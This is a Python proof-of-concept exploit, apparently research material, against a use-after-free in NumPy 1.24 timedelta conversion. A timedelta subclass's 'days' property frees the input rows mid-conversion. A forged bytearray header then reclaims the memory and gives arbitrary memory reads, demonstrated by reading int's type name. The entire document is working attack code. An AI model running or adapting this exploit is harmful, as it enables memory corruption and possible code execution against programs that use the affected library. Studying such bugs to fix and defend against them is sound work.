# source: numpy 1.24 _datetime.c convert_pyobject_to_timedelta reads "days" by name off a timedelta subclass; VOID_setitem borrowed row
# family: same family, timedelta subclass property days (m8 field)
# goal: arbitrary memory read through a fake bytearray
import numpy as np
import datetime

MASK = (1 << 64) - 1


def addr_of_type(t):
    h = hash(t) & MASK
    return ((h << 4) | (h >> 60)) & MASK


def q(v):
    return (v & MASK).to_bytes(8, "little")


keep = []
state = {"done": False}
rows = []
L = 2000
fake = q(1 << 40) + q(addr_of_type(bytearray)) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(0)
fake = fake + bytes(L + 32 - len(fake))


def trigger(obj):
    if not state["done"]:
        state["done"] = True
        keep.append(obj)
        rows.clear()
        keep.append(bytearray(fake))


class Span(datetime.timedelta):
    @property
    def days(self):
        trigger(self)
        return 1

rows.append((Span(hours=1), bytes(L)))
arr = np.array(rows, dtype=[("d", "m8[us]"), ("o", "O")])
f = arr[0]["o"]
print(type(f), len(f) > 10**15)
base = addr_of_type(int)
p = int.from_bytes(bytes(f[base + 24:base + 32]), "little")
print("tp_name of int read from memory:", bytes(f[p:p + 3]))
